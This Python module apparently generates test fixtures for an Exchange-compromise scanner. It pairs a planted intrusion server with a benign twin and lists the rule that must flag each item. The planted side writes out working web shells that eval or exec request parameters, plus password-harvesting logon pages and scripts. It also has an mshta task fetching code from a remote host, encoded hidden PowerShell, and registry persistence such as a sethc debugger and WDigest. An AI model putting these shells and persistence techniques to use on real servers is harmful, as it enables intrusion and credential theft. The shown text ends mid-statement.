"""Everything that an intruder may leave on an Exchange server, once each, and beside it, on another
server, what looks alike and is harmless.

    bad, good = planted.files(work)     {path below the collection: content}, of both servers
    planted.THINGS                      what lies where in `bad`, and the rule that finds it

Pages are harmless texts that nothing here serves or runs.
"""
import json
import struct
import typing

import attack
import background
import configuration
import evtxgen
import ntfs
from regfgen import Key, Value, hive
from server import parse_time

EX = "C/Program Files/Microsoft/Exchange Server/V15/"
EX_WIN = EX.replace("/", "\\").replace("C\\", "C:\\", 1)
APP = "C/inetpub/wwwroot/app/"
AUTH = EX + "FrontEnd/HttpProxy/owa/auth/"
CLIENT_WIN = "C:\\inetpub\\wwwroot\\aspnet_client\\"
CLIENT = "C/inetpub/wwwroot/aspnet_client/"
CONFIG = "C/Windows/System32/inetsrv/config/applicationHost.config"
LOGS = "C/Windows/System32/winevt/Logs/"
HIVES = "C/Windows/System32/config/"
TASKS = "C/Windows/System32/Tasks/"
AMCACHE = "C/Windows/AppCompat/Programs/Amcache.hve"
RECORDED_SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
MFT, JOURNAL = "C/$MFT", "C/$Extend/$J"
WHEN = "2021-03-05T%02d:%02d:%02d"
CHANGED = parse_time("2021-03-03T06:49:51Z")


class Thing(typing.NamedTuple):
    kind: str    # which class it is of
    what: str
    place: str
    title: str   # of the rule that must tell of it there
    holds: str = ""  # and what the finding must name


THINGS = []


def thing(kind, what, place, title, holds=""):
    THINGS.append(Thing(kind, what, place, title, holds))


# --- pages --------------------------------------------------------------------------------------

# How the Script Encoder writes characters: three tables, and which one each place uses.
# Source: docs/web-shells.md, "Sources" (the encoder's tables)
_PLAIN = (
    '.GzVBj/&IA42[vrC89pEhqO\tbD#u ~ ^ wJa]"KoN;LPg*}tT+-,0nkf5%!dMRc?{x)(sY3\x7fmUS|:_eFX1ilZH\'\\=$y7`Q 6',
    '-uR`q^I\\b})6 |z\x7fkc3+hQfv1dTC : ~ E,*t\'7DyY/o&rj9{?8wgSG4x]0#Z[lHUpi.L!$NP\tVs5aKX;W"mM%(FJ2A=_OBe',
    '20!)[83=X:5e9\\VsfNEkbYx^}Jmq ` S B\'Hru17MR"TjGd- \x7f.L]~loytC&v%$+(#A4\t*D?w;UiacPgQIOFh|6pnz/_KZ,W')
_ORDER = "0120121221210212012000122102122100212120200120210212001220012021"
_ESCAPED = {"\n": "@&", "\r": "@#", ">": "@*", "<": "@!", "@": "@$"}


def encoded(script):
    """Script as VBScript.Encode has it."""
    out = ""
    for i, c in enumerate(script):
        table = int(_ORDER[i % 64])
        out += _ESCAPED.get(c) or next(
            chr(0x20 + k) for k in range(96) if _PLAIN[table][k] == c and
            chr(0x20 + k) not in "<>@")
    return "#@~^AAAAAA==" + out + "AAAAAA==^#~@"


SHELL = b'<%@ Page Language="Jscript"%><%eval(Request.Item["made"],"unsafe");%>\r\n'
RENAMED = (b'<%@ Page Language = "Jscript" %>\r\n<%\r\n  eval ( Request.Item["other"] , "unsafe" ) ;\r\n%>\r\n')
PAGE = b'<%@ Page Language="C#" %><html><body><%= DateTime.UtcNow.ToString("u") %></body></html>\r\n'
START = 'System.Diagnostics.Process.Start("cmd.exe", "/c " + %s)'
HANDLER = ('<%%@ WebHandler Language="C#" Class="H" %%>\r\nusing System.Web;\r\npublic class H : IHttpHandler '
           '{ public void ProcessRequest(HttpContext c) { %s; } public bool IsReusable { get { return true; } } }')
SERVICE = ('<%%@ WebService Language="C#" Class="S" %%>\r\nusing System.Web;\r\nusing System.Web.Services;\r\n'
           'public class S : WebService { [WebMethod] public string Run() { %s; return "done"; } }')
CONTROL = ('<%%@ Control Language="C#" %%><script runat="server">void Page_Load(object s, System.EventArgs e) '
           '{ %s; }</script>')
PAGES = {  # name: (of the intruder, its twin)
    "t.aspx": (SHELL, PAGE),
    "t.ashx": (HANDLER % (START % 'c.Request["made"]'), HANDLER % 'c.Response.Write("one pixel")'),
    "t.asmx": (SERVICE % (START % 'HttpContext.Current.Request["made"]'), SERVICE % "int i = 1"),
    "t.ascx": (CONTROL % (START % 'Request["made"]'), CONTROL % 'Response.Write("menu")'),
    "t.asp": ('<%execute request("made")%>', '<%response.write Now()%>'),
    "e.asp": ('<%@ LANGUAGE=VBScript.Encode %><%' + encoded('execute request("made")') + '%>',
              '<%@ LANGUAGE=VBScript.Encode %><%' + encoded('response.write "Now: " & Now()') + '%>'),
    "t.jsp": ('<% Runtime.getRuntime().exec(request.getParameter("made")); %>',
              '<% out.print(new java.util.Date()); %>'),
    "t.php": ("<?php @eval($_POST['made']); ?>", "<?php echo date('c'); ?>"),
}
SCRIPT = attack.script_url()
DUMP = attack.dump(CHANGED)
PST = b"!BDN" + bytes(2000)
REQUEST = b"\x30\x82\x04\x00\x30\x82\x03\x00\x02\x01\x00" + bytes(200)
MINIDUMP = b"MDMP" + struct.pack("<I", 0xa793) + bytes(4000)
ESE = bytes(4) + b"\xef\xcd\xab\x89" + bytes(8184)
RAW_HIVE = hive(Key("ROOT", Key("Some", Value("Name", "text"))))
ZIP = b"PK\5\6" + bytes(18)
SEVEN = b"7z\xbc\xaf\x27\x1c\0\4" + bytes(100)


def pages(bad, good):
    found = "Web shell by what its script does with a request"
    for name, (shell, twin) in PAGES.items():
        for files, text in ((bad, shell), (good, twin)):
            files[APP + name] = text if isinstance(text, bytes) else text.encode()
        title = {"t.php": "php_runs_request: PHP that evaluates what a request brings, or runs it as a command",
                 "t.jsp": "jsp_runs_request: JSP that starts a process and takes its input from the request"}.get(name, found)
        thing("web shell", name, APP + name, title)
    bad[APP + "again.aspx"] = RENAMED
    thing("web shell", "the same shell, renamed and laid out anew", APP + "again.aspx", found)
    bad[CLIENT + "supp0rt.aspx"] = DUMP.encode()
    good["C/Users/admin/Documents/oab.txt"] = DUMP.replace(
        SCRIPT, "https://mail.example.com/OAB").encode()
    thing("web shell", "virtual directory as a page", CLIENT + "supp0rt.aspx",
          "Virtual directory written to a file with a script in its address",
          f"made 2021-03-03T06:49:51Z on {attack.HOST}, build 15.1.2106.2, key orange")
    bad[APP + "p.aspx"] = PST + SHELL + PST
    good["C/Users/admin/Documents/mail.pst"] = PST
    thing("web shell", "page in a mail store", APP + "p.aspx", found)
    bad[APP + "c.aspx"] = REQUEST + SHELL + bytes(100)
    good["C/Users/admin/Documents/mail.req"] = REQUEST
    thing("web shell", "page in a request for a certificate", APP + "c.aspx", found)
    bad["C/inetpub/wwwroot/com1.aspx"] = PAGE
    good["C/inetpub/wwwroot/comm.aspx"] = PAGE
    thing("web shell", "name of a device", "C/inetpub/wwwroot/com1.aspx",
          "Web page under the name of a device")


UNKNOWN = "Exchange's own page with a content that is not in the list of known ones"
LOGON = (b'<%%@ Page Language="C#" %%><html><head><style>body { background: #%s }</style></head><body>'
         b'<form action="/owa/auth.owa" method="POST"><input name="username"><input type="password" name="password">'
         b'</form>%s</body></html>\r\n')
KEEPS = (b'<script runat="server">void Page_Load(object s, System.EventArgs e) { System.IO.File.AppendAllText('
         b'@"C:\\inetpub\\wwwroot\\aspnet_client\\log.txt", Request.Form["username"] + ":" + Request.Form["password"]); }'
         b"</script>")


def own_pages(bad, good):
    """Exchange's own pages, with a content that is none of those it shipped. The bad server's build is
    one of which all are known, the good one's is newer."""
    auth = AUTH
    for files in (bad, good):
        files[auth + "logon.aspx"] = LOGON % (b"ffeecc", b"<p>Welcome to the works</p>")
        files[auth + "errorFE.aspx"] = b""  # as Exchange shipped one
    thing("known good", "changed", auth + "logon.aspx",
          UNKNOWN, "another content than Exchange ships")
    bad[auth + "expiredpassword.aspx"] = LOGON % (b"ffffff", KEEPS)
    good[auth + "expiredpassword.aspx"] = LOGON % (b"ffeecc", b"<p>Ask the help desk: 4711</p>")
    thing("known good", "keeps passwords", auth + "expiredpassword.aspx",
          "Web shell by what its script does with a request", "keeps a password")
    script = auth + "15.1.2106/scripts/premium/flogon.js"
    bad[script] = ('function clkLgn() { new Image().src = "https://mail.example/?" + gbid("password").value; '
                   "document.logonForm.submit(); }").encode()
    good[script] = ('function clkLgn() { if (gbid("password").value == "") return; document.cookie = "logondata=acc=1"; '
                    'gbid("logo").src = "/owa/auth/works.png"; document.logonForm.submit(); }').encode()
    thing("known good", "script passes passwords on", script,
          "logon_page_passes_password_on: Script of Exchange's logon page that passes the password on")


# --- configuration, tasks, programs -------------------------------------------------------------------

OWA = "Microsoft.Exchange.Clients.Owa.Core.OwaModule, Microsoft.Exchange.Clients.Owa"
ABORT = ('<rewrite><rules><rule name="X-BEResource Abort - inbound"><match url=".*" /><conditions><add input='
         '"{HTTP_COOKIE}" pattern="(.*)X-BEResource=(.+)/(.+)~(.+)" /></conditions><action type="AbortRequest" />'
         '</rule>%s</rules></rewrite>')
AWAY = '<rule name="r"><match url="(.*)" /><action type="Rewrite" url="http://203.0.113.7/{R:1}" /></rule>'
KEY = ('<configuration><system.web><machineKey validationKey="%s" decryptionKey="%s" validation="SHA1" />'
       "</system.web></configuration>")
AGENT = ('<agent name="Mail Helper" baseType="Microsoft.Exchange.Data.Transport.Routing.RoutingAgent"'
         ' classFactory="Helper.Factory" assemblyPath="C:\\ProgramData\\helper\\agent.dll" enabled="true" />')


PRODUCT = ('<agent name="Vendor" baseType="Microsoft.Exchange.Data.Transport.Routing.RoutingAgent"'
           ' classFactory="Vendor.Factory" assemblyPath="%s" enabled="true" />')
PART = "<configuration><%s>%s</%s></configuration>"


def more_configuration(bad, good):
    """Web applications' own files: (what, place, section, of the intruder, its twin, rule)."""
    for kind, what, place, section, planted, twin, title in (
            ("handler", "compiled as pages", APP + "web.config", "system.web",
             '<compilation><buildProviders><add extension=".png" type="System.Web.Compilation.PageBuildProvider" />'
             "</buildProviders></compilation>", '<compilation debug="false" />', "Files of a harmless kind are compiled as pages"),
            ("handler", "where no application is", CLIENT + "web.config", "system.webServer",
             '<handlers><add name="t" path="*.txt" verb="*" type="System.Web.UI.PageHandlerFactory" /></handlers>',
             '<directoryBrowse enabled="false" />', "Configuration with handlers where no application is"),
            ("module", "filter", EX + "ClientAccess/owa/web.config", "system.webServer",
             '<isapiFilters><filter name="f" path="C:\\Windows\\System32\\inetsrv\\flt.dll" /></isapiFilters>',
             '<isapiFilters><filter name="Exchange OWA Cookie Authentication ISAPI Filter" '
             'path="C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\owa\\auth\\owaauth.dll" /></isapiFilters>',
             "ISAPI filter that neither Windows nor Exchange ships"),
            ("module", "another assembly first", "C/Windows/System32/inetsrv/w3wp.exe.config", "runtime",
             '<appDomainManagerAssembly value="x, Version=0.0.0.0" /><appDomainManagerType value="X" />',
             '<gcServer enabled="true" />', "A program's configuration makes it load another assembly first"),
            ("module", "of another program's site", "C/websites/shop/web.config", "system.webServer",
             '<modules><add name="S" type="Made.Module, Made" /></modules><handlers><add name="h" path="health.axd" '
             'verb="*" type="Made.Health" /></handlers>', '<httpErrors errorMode="Custom" />',
             "Managed module of another program")):
        bad[place] = (PART % (section, planted, section)).encode()
        good[place] = (PART % (section, twin, section)).encode()
        thing(kind, what, place, title)
    thing("handler", "of another program's site", "C/websites/shop/web.config", "Handler of another program")


def programs(bad, good):
    """Libraries: (what, place, names it gives out, maker, file name, rule)."""
    for what, place, exports, company, name, title in (
            ("native", "C/Windows/System32/inetsrv/httpflt.dll", ["RegisterModule"], "Example", "httpflt.dll",
             "Library that is a module of IIS, unsigned"),
            ("ISAPI", "C/inetpub/wwwroot/x/run.dll", ["GetExtensionVersion", "HttpExtensionProc"], "Example", "run.dll",
             "ISAPI extension or filter in a web folder, unsigned"),
            ("posing", EX + "FrontEnd/HttpProxy/bin/owaauth.dll", [], "Microsoft Corporation",
             "Microsoft.Exchange.Clients.OwaAuth.dll", "Library under Exchange's name without its signature"),
            ("program as a picture", CLIENT + "svchost.jpg", [], "Example", "svchost.exe",
             "Program in a folder that serves files only")):
        bad[place] = configuration.program(name=name, exports=exports, company=company)
        if what != "program as a picture":
            good[place] = configuration.program(name=name, exports=exports, company=company, signed=True)
        thing("module", what, place, title)
    for place in ("C/inetpub/wwwroot/x/run.dll", "C/Windows/System32/inetsrv/httpflt.dll"):
        good[place] = configuration.program(name="run.dll", exports=["DllGetVersion"], signed=True)


PRODUCT_TASK = ("C:\\Program Files\\V\\v.exe", "/ua")
IN_CACHE = ({}, {})  # what the registries know of tasks


def tasks(bad, good):
    for known in IN_CACHE:
        known.clear()
    for name, action, title in (
            ("Encoded", ("powershell.exe", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
             "Scheduled task with encoded or hidden commands"),
            ("Fetch", ("mshta.exe", "http://203.0.113.7/a.hta"), "Scheduled task that runs code from the network"),
            ("Winnet", ("C:\\Program Files\\V\\v.exe", ""), "Scheduled task under a name that intruders used"),
            ("Data", ("C:\\ProgramData\\a.exe", ""), "Scheduled task of the system that runs a program from a writable place"),
            ("Dell", ("C:\\ProgramData\\Dell\\UpdateService\\update.exe", ""),
             "Scheduled task that runs a product's program from a writable place"),
            ("Updater", ("C:\\Windows\\Temp\\a.exe", ""), "Scheduled task that runs a program from an odd place"),
            ("Winner", PRODUCT_TASK, "Hidden scheduled task that is not of Windows"),
            ("Left", PRODUCT_TASK, "File of a scheduled task that the registry does not know")):
        bad[TASKS + name] = configuration.task(*action, hidden=name == "Winner")
        twin = name.replace("Winnet", "Vendor")
        good[TASKS + twin] = configuration.task(*PRODUCT_TASK)
        IN_CACHE[0][name], IN_CACHE[1][twin] = action, PRODUCT_TASK
        thing("task", name, TASKS + name, title)
    del IN_CACHE[0]["Left"]
    for name, in_cache in (("Lost", PRODUCT_TASK), ("Unlisted", PRODUCT_TASK), ("Other", ("C:\\Windows\\Temp\\b.exe", "-k"))):
        for files, known, action in ((bad, IN_CACHE[0], in_cache), (good, IN_CACHE[1], PRODUCT_TASK)):
            files[TASKS + name] = configuration.task(*PRODUCT_TASK)
            known[name] = action
    IN_CACHE[0]["Alone"] = PRODUCT_TASK
    IN_CACHE[0]["Microsoft\\Alone"] = PRODUCT_TASK
    bad[TASKS + "Microsoft/Windows/Defrag"] = good[TASKS + "Microsoft/Windows/Defrag"] = configuration.task("defrag.exe")
    IN_CACHE[0]["Microsoft\\Windows\\Defrag"] = IN_CACHE[1]["Microsoft\\Windows\\Defrag"] = ("defrag.exe", "")


def settings(bad, good):
    bad[CONFIG] = configuration.application_host(
        vdir='<virtualDirectory path="/x" physicalPath="C:\\ProgramData\\COM1\\x" />',
        native='<add name="HttpFilterModule" image="%windir%\\System32\\inetsrv\\httpflt.dll" />'
               '<add name="HttpHelper" image="C:\\ProgramData\\iis\\helper.dll" />'
               '<add name="VendorModule" image="C:\\Program Files\\Vendor\\iismod.dll" />'
               '<add name="UriCacheModule" image="%windir%\\System32\\inetsrv\\uricach.dll" />',
        managed='<add name="SessionManager" type="Made.SessionManager, SessionManager" />'
                '<add name="FbaModule" type="Microsoft.Exchange.HttpProxy.FbaModule, Extender" />',
        handler='<add name="img" path="*.jpg" verb="*" type="System.Web.UI.PageHandlerFactory" />'
                '<add name="h" path="health.axd" verb="*" type="Made.Health" />',
        rewrite=ABORT % AWAY).replace(b'dontLog="false"', b'dontLog="true"')
    good[CONFIG] = configuration.application_host(
        vdir='<virtualDirectory path="/pics" physicalPath="D:\\web\\pics" />',
        native='<add name="RewriteModule" image="%windir%\\System32\\inetsrv\\rewrite.dll" />',
        handler='<add name="svc" path="*.svc" verb="*" type="System.ServiceModel.Activation.HttpHandler" />')
    for kind, what, title, holds in (
            ("virtual directory", "place", "Virtual directory that points to an odd place", "COM1"),
            ("module", "native", "Native module of IIS that neither Windows nor Exchange ships", "httpflt"),
            ("module", "managed", "Managed module that neither ASP.NET nor Exchange ships", "SessionManager"),
            ("module", "from an open place", "Native module of IIS from a place where none belongs", "helper.dll"),
            ("module", "of a product", "Native module of IIS of another product", ""),
            ("module", "under another's name", "Known name of a native module with another file", "uricach"),
            ("module", "posing", "Managed module that poses as Microsoft's", "Extender"),
            ("handler", "unknown", "Handler that neither ASP.NET nor Exchange ships", "health.axd"),
            ("handler", "pictures as pages", "Files of a harmless kind are run as pages", "jpg"),
            ("rewrite rule", "to another server", "Requests are passed on to another server", "203.0.113.7"),
            ("rewrite rule", "mitigation", "Rewrite rule against the forged cookies is in the configuration", ""),
            ("logging", "off", "The web server does not log requests", "")):
        thing(kind, what, CONFIG, title, holds)
    keys = EX + "ClientAccess/ecp/web.config"
    bad[keys] = (KEY % ("CB2721AB" + "0" * 32, "E9" * 24)).encode()
    good[keys] = (KEY % ("AutoGenerate,IsolateApps", "AutoGenerate,IsolateApps")).encode()
    thing("machine key", "known to everybody", keys, "Machine key that everybody knows")
    own = "C/inetpub/wwwroot/web.config"
    bad[own] = (KEY % ("21F090A8" * 8, "E9A1" * 12)).encode()
    good[own] = b"<configuration><system.web><customErrors mode=\"Off\" /></system.web></configuration>"
    thing("machine key", "given", own, "Machine key given in a configuration")
    past = "C/inetpub/history/CFGHISTORY_0000000003/applicationHost.config"
    bad[past] = configuration.application_host(native='<add name="Old" image="C:\\ProgramData\\old.dll" />')
    good[past] = good[CONFIG]
    thing("module", "came between two versions", CONFIG, "IIS's configuration was changed between two of its versions",
          "native modules added")
    thing("module", "went between two versions", CONFIG, "IIS's configuration was changed between two of its versions",
          "native modules removed")
    thing("logging", "changed between two versions", CONFIG, "Logging or a filter of requests was changed in IIS's configuration")
    thing("module", "in an older configuration", past,
          "Native module of IIS from a place where none belongs", "old.dll")
    more_configuration(bad, good)
    agents = EX + "TransportRoles/Shared/agents.config"
    bad[agents], good[agents] = configuration.agents(AGENT + PRODUCT % (
        "C:\\Program Files\\Vendor\\Agent.dll") + PRODUCT % (EX_WIN + "TransportRoles\\agents\\Rule\\Rule.dll")), configuration.agents()
    thing("transport agent", "configured", agents, "Transport agent from a place where none belongs")
    thing("transport agent", "of another product", agents, "Transport agent of another product")
    thing("transport agent", "unknown", agents, "Transport agent that Exchange does not ship")
    tasks(bad, good)
    detections(bad, good)
    detection = "C/ProgramData/Microsoft/Windows Defender/Scans/History/Service/DetectionHistory/02/" \
                "03020100-0504-0706-0809-0A0B0C0D0E0F"
    bad[detection] = configuration.detection("Backdoor:ASP/Chopper.A!dha", "C:\\inetpub\\wwwroot\\aspnet_client\\gone.aspx")
    good[detection] = configuration.detection("Virus:DOS/EICAR_Test_File", "C:\\Users\\u\\eicar.com")
    thing("gone", "removed by Defender, by its own history", detection, "Defender removed a page from a web folder",
          "SYSTEM")


def detections(bad, good):
    history = "C/ProgramData/Microsoft/Windows Defender/Scans/History/Service/DetectionHistory/"
    for what, place, threat, path, status, title in (
            ("left by Defender", "03/03020100-0504-0706-0809-0A0B0C0D0E1F", "Backdoor:ASP/Chopper.F!dha",
             "C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx", 103, "Defender found a page in a web folder and did not remove it"),
            ("program", "04/03020100-0504-0706-0809-0A0B0C0D0E2F", "HackTool:Win32/Mimikatz.D", "C:\\Windows\\Temp\\m.exe", 3,
             "Defender found an intruder's program")):
        bad[history + place] = configuration.detection(threat, path, status)
        good[history + place] = configuration.detection("PUA:Win32/Toolbar", "C:\\Users\\u\\t.exe", status)
        thing("gone", what, history + place, title)


# --- registry ----------------------------------------------------------------------------------------------

SD = b"\1\0\4\x80" + bytes(16)
USERINIT = "C:\\Windows\\system32\\userinit.exe,"


def account(rid, name, disabled=False, acts_as=0):
    v = bytearray(0xcc)
    text = name.encode("utf-16-le")
    struct.pack_into("<III", v, 0x0c, 0, len(text), 0)
    f = bytearray(80)
    struct.pack_into("<I", f, 48, acts_as or rid)
    struct.pack_into("<H", f, 56, 0x10 | int(disabled))
    return Key(f"{rid:08X}", Value("F", bytes(f)), Value("V", bytes(v) + text))


def sam(*accounts, administrators):
    sids = b"".join(b"\1\5" + bytes(5) + b"\5" + struct.pack("<IIIII", 21, 1, 2, 3, r) for r in administrators)
    members = bytes(0x28) + struct.pack("<III", 0, len(sids), len(administrators)) + sids
    return hive(Key("ROOT", Key("SAM", Key("Domains", Key("Account", Key(
        "Users", Key("Names", *(Key(n) for _, n in accounts)), *(account(r, n, acts_as=500 if n == "posing" else 0) for r, n in accounts))),
        Key("Builtin", Key("Aliases", Key("00000220", Value("C", members))))))))


SERVICES = [  # (key of a service, values, rule)
    (("msupd", {"ImagePath": "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand "
                             "JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtACg"}),
     "Command of an autostart that hides or fetches code"),
    (("Pages", {"ImagePath": "C:\\inetpub\\wwwroot\\aspnet_client\\x.exe"}), "Program in a web folder is started by Windows"),
    (("EventLog", {"Start": 4}), "Service of the event log is switched off"),
]


def planted_system():
    """Further keys below Services and Control of a system that was entered."""
    services = [Key(name, *(Value(n, v) for n, v in values.items())) for (name, values), _ in SERVICES]
    services.append(Key("PortProxy", Key("v4tov4", Key("tcp", Value("0.0.0.0/8443", "192.0.2.7/3389")))))
    control = [
        Key("Lsa", Value("DisableRestrictedAdmin", 0), Value("Notification Packages", ["scecli", "made"])),
        Key("SecurityProviders", Key("WDigest", Value("UseLogonCredential", 1))),
        Key("Terminal Server", Key("Wds", Key("rdpwd", Value("StartupPrograms", "rdpclip,x.exe"))))]
    services.append(moderator(*(s[0] for s in STARTS)))
    control.append(compatibility(*(s[0] for s in SEEN)))
    return services, control


OF_SYSTEM = [title for _, title in SERVICES] + [
    "Connections are passed on to another machine", "Remote Desktop takes a hash for a password",
    "Package of the security authority that is not of Windows", "Passwords are kept in memory as they are typed",
    "Program that starts with Remote Desktop sessions"]


STARTED = struct.pack("<Q", 132592230000000000)  # 2021-03-03T05:30:00Z


def moderator(*paths):
    """Programs that ran, by the background activity moderator."""
    return Key("bam", Key("State", Key("UserSettings", Key("S-1-5-18", *(
        Value("\\Device\\HarddiskVolume2" + p[2:], STARTED + bytes(16)) for p in paths)))))


def compatibility(*paths):
    """Programs that were looked at, as Windows 10 and Server 2016 keep them."""
    data = struct.pack("<I", 0x34).ljust(0x34, b"\0")
    for path in paths:
        wide = path.encode("utf-16-le")
        body = struct.pack("<H", len(wide)) + wide + STARTED + bytes(4)
        data += b"10ts" + bytes(4) + struct.pack("<I", len(body)) + body
    return Key("Session Manager", Key("AppCompatCache", Value("AppCompatCache", data)))


def session(*paths):
    """Programs that somebody started at the desktop."""
    count = Key("Count", *(Value("".join(
        chr((ord(c) - b + 13) % 26 + b) if c.isalpha() and (b := 97 if c.islower() else 65) else c for c in path),
        struct.pack("<III", 0, 3, 0) + bytes(48) + STARTED + bytes(4)) for path in paths))
    explorer = Key("Explorer", Key("UserAssist", Key("{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}", count)))
    return hive(Key("ROOT", Key("Environment"), Key("Software", Key("Microsoft", Key("Windows", Key(
        "CurrentVersion", explorer))))))


DESKTOP = "C/Users/admin/NTUSER.DAT"
STARTS = ((CLIENT_WIN + "x.exe", "C:\\inetpub\\wwwroot\\app\\bin\\roslyn\\csc.exe", "Program ran from a folder that serves files only"),
          ("C:\\PerfLogs\\x.exe", "C:\\ProgramData\\Vendor\\update.exe", "Program ran from a place where no programs belong"),
          ("C:\\Windows\\Temp\\x.exe", "C:\\Windows\\Temp\\vcredist_x64.exe", "Program ran from a folder for passing files"))
SEEN = (("C:\\inetpub\\wwwroot\\aspnet_client\\y.exe", "C:\\inetpub\\wwwroot\\app\\bin\\y.exe",
         "Program was recorded in a folder that serves files only"),
        ("C:\\PerfLogs\\y.exe", "C:\\Program Files\\V\\y.exe", "Program was recorded in a place where no programs belong"))


def starts(bad, good):
    """Programs that ran or were there, by what the registry keeps of them."""
    bad[DESKTOP], good[DESKTOP] = (session(*(s[i] for s in STARTS)) for i in (0, 1))
    for _, _, title in STARTS:
        thing("program", "started at the desktop", DESKTOP, title, "2021-03-03T05:30:00Z" if "serves" in title else "")
        thing("program", "started, by the moderator", HIVES + "SYSTEM", title)
    for _, _, title in SEEN:
        thing("program", "looked at", HIVES + "SYSTEM", title)


def system_hive(name, image, services=(), control=()):
    return hive(Key(
        "ROOT", Key("Select", Value("Current", 1)), Key(
            "ControlSet001",
            Key("Control", Key("ComputerName", Key("ComputerName", Value("ComputerName", name))), *control),
            Key("Services", Key("Updater", Value("ImagePath", image), Value("Start", 2),
                                Value("Type", 16)), *services))))


def planted_software():
    """Further keys: below Windows NT\\CurrentVersion, below Windows\\CurrentVersion, below Microsoft."""
    options = Key("Image File Execution Options", Key("sethc.exe", Value("Debugger", "C:\\Windows\\System32\\cmd.exe")),
                  Key("msmpeng.exe", Value("Debugger", "C:\\Windows\\system32\\systray.exe")))
    windows = Key("Windows", Value("AppInit_DLLs", "C:\\Windows\\help.dll"), Value("LoadAppInit_DLLs", 1))
    channels = Key("WINEVT", Key("Channels", Key("Microsoft-Windows-PowerShell/Operational", Value("Enabled", 0))))
    return [options, windows], [channels], [Key("NetSh", Value("h", "C:\\Users\\Public\\h.dll"))]


OF_SOFTWARE = [
    "Accessibility program of the logon screen is replaced", "Program is started in place of another",
    "Library that is loaded into programs", "Channel of the event log is switched off", "Helper of netsh from another folder",
    "Defender leaves out what it should look at"]


def task_actions(command, arguments):
    """What a task runs, as the scheduler's cache has it. Source: docs/formats/registry.md, "Tasks"""
    def text(s):
        return struct.pack("<I", 2 * len(s)) + s.encode("utf-16-le")
    return b"\3\0" + text("Author") + b"\x66\x66" + text("") + text(command) + text(arguments) + text("") + b"\0\0"


def task_cache(tasks, bad):
    """tasks: {name: (command, arguments)} of the folder of tasks."""
    tree, entries = [Value("SD", SD), Key("Microsoft", Value("SD", SD))], []
    for i, (name, (command, arguments)) in enumerate(sorted(tasks.items())):
        number = "{%08X-0000-0000-0000-000000000001}" % i
        lost, hidden = bad and name == "Lost", bad and name == "Updater"
        if not lost:
            tree.append(Key(name, Value("Id", number), Value("Index", 0 if bad and name == "Unlisted" else 3),
                            *([] if hidden else [Value("SD", SD)])))
        entries.append(Key(number, Value("Path", "\\" + name), Value("Actions", task_actions(command, arguments)),
                           Value("DynamicInfo", struct.pack("<IQQIIQ", 3, 132592212050000000, 132592230000000000, 0, 0, 0))))
    return Key("TaskCache", Key("Tree", *tree), Key("Tasks", *entries))


def software_hive(winlogon, exclusion, certificate, tasks, bad, of_nt=(), of_windows=(), of_microsoft=()):
    request = [Key("SystemCertificates", Key("REQUEST", Key("Certificates", Key(
        "0A1B", Value("Blob", certificate)))))]
    setup = Key("Setup", Value("MsiProductMajor", 15), Value("MsiProductMinor", 1), Value("MsiBuildMajor", 2106),
                Value("MsiBuildMinor", 2))
    return hive(Key("ROOT", Key("Classes"), Key(
        "Microsoft", *request, Key("ExchangeServer", Key("v15", setup)),
        Key("Windows Defender", Key("Exclusions", Key("Paths", *([Value(exclusion, 0)] if exclusion else [])))),
        Key("Windows NT", Key("CurrentVersion", Key("Winlogon", Value("Userinit", winlogon)),
                              Key("Schedule", task_cache(tasks, bad)), *of_nt)),
        Key("Windows", Key("CurrentVersion", *of_windows)), *of_microsoft)))


def amcache(*paths, old):
    """Files as both layouts keep them, all of one digest."""
    sha1 = "0000" + RECORDED_SHA1
    files = [Key(path.rsplit("\\", 1)[1] + f"|{i:016x}", Value("LowerCaseLongPath", path), Value("FileId", sha1),
                 Value("Size", 1337), Value("LinkDate", "03/02/2021 11:12:13")) for i, path in enumerate(paths)]
    before = Key("{11111111-2222-3333-4444-555555555555}", Key(
        "10000abcd", Value("15", old), Value("101", sha1), Value("6", 1337), Value("f", 1614683533)))
    return hive(Key("ROOT", Key("Root", Key("File", before), Key("InventoryApplicationFile", *files))))


def registry(bad, good):
    bad[HIVES + "SYSTEM"] = system_hive("BAD01", "C:\\ProgramData\\x.exe", *planted_system())
    for title in OF_SYSTEM:
        thing("service", title, HIVES + "SYSTEM", title)
    good[HIVES + "SYSTEM"] = system_hive("GOOD01", "%SystemRoot%\\System32\\svchost.exe -k netsvcs",
                                         [moderator(*(s[1] for s in STARTS))], [compatibility(*(s[1] for s in SEEN))])
    thing("service", "in the registry", HIVES + "SYSTEM", "Program in an open place is started by Windows")
    bad[HIVES + "SOFTWARE"] = software_hive(USERINIT + "C:\\ProgramData\\x.exe,", "C:\\inetpub",
                                            bytes(40) + b'<%@ Page Language="JScript"%><script runat="server">', IN_CACHE[0], True,
                                            *planted_software())
    for title in OF_SOFTWARE:
        thing("logging" if "Channel" in title else "service", title, HIVES + "SOFTWARE", title)
    good[HIVES + "SOFTWARE"] = software_hive(USERINIT, "", bytes(40) + b"CN=mail.example.com", IN_CACHE[1], False)
    for kind, what, title in (
            ("task", "hidden in TaskCache", "Scheduled task without a security descriptor"),
            ("task", "not in the scheduler's lists", "Scheduled task that is kept out of the scheduler's lists"),
            ("task", "without a file", "Scheduled task of the registry without a file"),
            ("task", "of Windows, without a file", "Scheduled task of Windows in the registry without a file"),
            ("task", "in no folder", "Scheduled task that lies in no folder of the registry"),
            ("task", "that runs something else than its file says", "Scheduled task that runs something else than its file says"),
            ("service", "logon", "Logon runs something besides what Windows installs"),
            ("web shell", "pending request for a certificate", "Request for a certificate that holds script")):
        thing(kind, what, HIVES + "SOFTWARE", title)
    bad[AMCACHE] = amcache("c:\\inetpub\\wwwroot\\aspnet_client\\x.exe", "c:\\inetpub\\wwwroot\\app\\img\\x.exe",
                           "c:\\windows\\temp\\x.exe", old="C:\\PerfLogs\\x.exe")
    good[AMCACHE] = amcache("c:\\inetpub\\wwwroot\\app\\bin\\roslyn\\csc.exe", "c:\\windows\\temp\\vcredist_x64.exe",
                            "c:\\windows\\temp\\{1b2c}\\wrapper.exe", old="C:\\ProgramData\\Vendor\\update.exe")
    for what, title, holds in (
